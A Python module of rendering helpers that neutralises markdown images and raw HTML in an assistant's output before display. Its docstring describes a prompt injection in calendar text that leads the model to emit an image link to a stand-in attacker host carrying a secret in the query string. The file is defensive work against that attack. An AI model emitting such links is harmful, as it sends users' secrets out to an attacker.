"""Rendering helpers for model output (Streamlit-free, unit-tested).

Model output is untrusted: calendar text can carry a prompt injection that asks the model
to emit ``![x](https://attacker/?q=<secret>)``, which a browser would fetch. Before any
answer is drawn, :func:`safe_markdown` turns images into inert text (the URL shown as code,
never fetched nor linked) and escapes raw HTML, so no tag is ever interpreted. Ordinary
links stay links: the user decides whether to follow one.
"""

from __future__ import annotations

import html
import json
import re
from typing import Any

_INLINE_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\"']*[\"'])?\s*\)")
_REF_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*\[([^\]\n]*)\]")
_HTML_TAG = re.compile(r"<(/?[A-Za-z!][^>]*)>")


def safe_markdown(text: str) -> str:
    """Markdown that cannot load remote images or run HTML.

    Args:
        text: Untrusted markdown produced by the model.

    Returns:
        The same markdown with images replaced by inert text and HTML tags escaped.
    """

    def _inline(match: re.Match[str]) -> str:
        alt = match.group(1).strip() or "image"
        url = match.group(2).strip()
        return f"[image blocked: {alt}] ({_inert_url(url)})" if url else f"[image blocked: {alt}]"

    def _ref(match: re.Match[str]) -> str:
        alt = match.group(1).strip() or "image"
        return f"[image blocked: {alt}]"

    out = _INLINE_IMAGE.sub(_inline, text)
    out = _REF_IMAGE.sub(_ref, out)
    out = out.replace("![", "!\\[")  # shortcut references and anything left: never an image
    out = _HTML_TAG.sub(lambda m: html.escape(m.group(0)), out)
    return out


def _inert_url(url: str) -> str:
    """Show a URL as code so it is neither fetched nor auto-linked."""
    return "`" + url.replace("`", "%60") + "`"


def pretty_json(data: Any, limit: int = 4000) -> str:
    """Indented JSON for a tool step's input, cut to ``limit`` characters."""
    text = json.dumps(data, indent=2, ensure_ascii=False, default=str)
    return text if len(text) <= limit else text[: limit - 1] + "…"
